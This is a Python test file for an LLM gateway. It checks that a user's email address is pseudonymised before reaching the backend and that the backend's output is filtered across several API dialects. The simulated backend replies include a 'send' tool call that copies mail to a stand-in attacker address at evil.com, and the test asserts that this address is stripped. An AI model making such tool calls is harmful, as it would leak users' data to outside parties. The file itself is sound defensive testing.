"""Golden transcripts: what a caller asked, what the backend saw and said, what the caller heard, and the decisions.

One file an exchange, beside this test; the default policy and a fixed key. To write them anew
after a change that is meant: ``SLUICE_GOLDEN=write pytest tests/golden``, and read the difference.
"""

import json
import os
from collections.abc import Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from gateway.core.decision import Decision
from gateway.core.dialect import Framing
from gateway.core.exchange import Exchange
from gateway.core.pseudonym import mint
from gateway.core.strictjson import dump
from gateway.dialects import codecs
from gateway.dialects.registry import Registry
from tests.support.inside import KEY, Inside
from tests.support.responses_speech import (
    gemini,
    gemini_sse,
    lines,
    numbered,
    ollama_chat,
    ollama_generate,
    response,
    response_text_events,
    response_tool_events,
)
from tests.support.speech import chat_stream, completion, message, message_stream, pieces, tool_stream

HOME = Path(__file__).parent
MAIL = "maria.lopez@acme.com"
TOKEN = mint(KEY, "acme", "EMAIL_ADDRESS", MAIL)
"""What the fixed key makes of MAIL for the tenant of `tests.support.plans.principal`."""

SAID = f"I wrote to {TOKEN}, and to eve.hacker@evil.com."
CALL = json.dumps({"to": TOKEN, "cc": ["eve.hacker@evil.com"]})


@dataclass(frozen=True)
class Scene:
    """One exchange."""

    name: str
    path: str
    request: dict[str, Any]
    answer: Sequence[bytes]
    framing: Framing | None = None
    query: dict[str, str] = field(default_factory=dict)


def whole(value: Any) -> list[bytes]:
    """One JSON body."""
    return [json.dumps(value).encode()]


ASK = f"Write to {MAIL}"
CHAT = {"model": "m", "messages": [{"role": "user", "content": ASK}]}
CLAUDE = {**CHAT, "max_tokens": 99}
INPUT = {"model": "m", "input": ASK}
CONTENTS = {"contents": [{"role": "user", "parts": [{"text": ASK}]}]}
CUT = pieces(SAID, 9)
STREAM = {"stream": True}
SSE = Framing.SSE

SCENES = (
    Scene("openai-chat", "/v1/chat/completions", CHAT, whole(completion(SAID))),
    Scene("openai-chat-tool", "/v1/chat/completions", CHAT, whole(completion(None, ("send", CALL)))),
    Scene("openai-chat-stream", "/v1/chat/completions", {**CHAT, **STREAM}, chat_stream(CUT), SSE),
    Scene("openai-chat-tool-stream", "/v1/chat/completions", CHAT, tool_stream("send", pieces(CALL, 9)), SSE),
    Scene("openai-responses", "/v1/responses", INPUT, whole(response(SAID))),
    Scene("openai-responses-stream", "/v1/responses", INPUT, numbered(response_text_events(CUT)), SSE),
    Scene(
        "openai-responses-tool-stream",
        "/v1/responses",
        INPUT,
        numbered(response_tool_events("send", pieces(CALL, 9))),
        SSE,
    ),
    Scene("anthropic", "/v1/messages", CLAUDE, whole(message(SAID))),
    Scene("anthropic-stream", "/v1/messages", CLAUDE, message_stream(CUT), SSE),
    Scene("anthropic-tool-stream", "/v1/messages", CLAUDE, message_stream(pieces(CALL, 9), tool="send"), SSE),
    Scene("gemini", "/v1beta/models/m:generateContent", CONTENTS, whole(gemini(SAID))),
    Scene("gemini-stream", "/v1beta/models/m:streamGenerateContent", CONTENTS, gemini_sse(CUT), SSE, {"alt": "sse"}),
    Scene("ollama", "/api/chat", CHAT, whole(ollama_chat(SAID))),
    Scene(
        "ollama-stream",
        "/api/chat",
        CHAT,
        lines(*(ollama_chat(piece, done=False) for piece in CUT), ollama_chat("")),
        Framing.LINES,
    ),
    Scene("ollama-generate", "/api/generate", {"model": "m", "prompt": ASK}, whole(ollama_generate(SAID))),
)


@pytest.fixture(scope="module")
def inside() -> Inside:
    """The default policy."""
    return Inside.of()


def decided(decisions: Sequence[Decision]) -> list[str]:
    """Return decisions as lines."""
    return [
        f"{d.guard} {d.direction} {d.action} {d.reason} {d.rule} {dict(sorted(d.evidence.items()))}" for d in decisions
    ]


async def played(inside: Inside, scene: Scene) -> str:
    """Play one exchange and return its transcript."""
    match = Registry().find("POST", scene.path, {}, scene.query)
    assert match is not None
    ruling = await inside.inspect(inside.exchange(match.dialect, match.endpoint, scene.request))
    exchange: Exchange = ruling.exchange
    answering = inside.inspect.answering(exchange, streaming=scene.framing is not None, drop_surplus=True)
    decoder, encoder = codecs.decoder(scene.framing), codecs.encoder(scene.framing)
    out = []
    for chunk in (*scene.answer, None):
        answering.answer.receive((decoder.end() if chunk is None else decoder.feed(chunk)).frames)
        if chunk is None:
            answering.answer.finish()
        asked = [question.text for question in answering.answer.questions()]
        out += answering.answer.release(await answering.detect(asked))
    answer = b"".join(encoder.encode(frame) for frame in out) + encoder.end()
    spent = answering.answer.spent
    parts = {
        "caller asks": dump(scene.request),
        "backend sees": dump(exchange.payload),
        "backend says": b"".join(scene.answer),
        "caller hears": answer,
        "decisions": "\n".join(decided((await answering(exchange)).decisions)).encode(),
        "usage": f"{spent.input} in, {spent.output} out".encode(),
    }
    return "".join(f"== {name}\n{part.decode().strip()}\n" for name, part in parts.items())


@pytest.mark.parametrize("scene", SCENES, ids=lambda scene: scene.name)
async def test_transcript(inside: Inside, scene: Scene) -> None:
    """To the byte."""
    file = HOME / f"{scene.name}.txt"
    made = await played(inside, scene)
    if os.environ.get("SLUICE_GOLDEN") == "write":
        file.write_text(made, encoding="utf-8", newline="")
    assert made == file.read_bytes().decode()
    heard = made.split("== caller hears\n")[1]
    assert "eve.hacker" not in heard
    assert MAIL not in made.split("== backend sees\n")[1].split("== caller hears\n")[0]
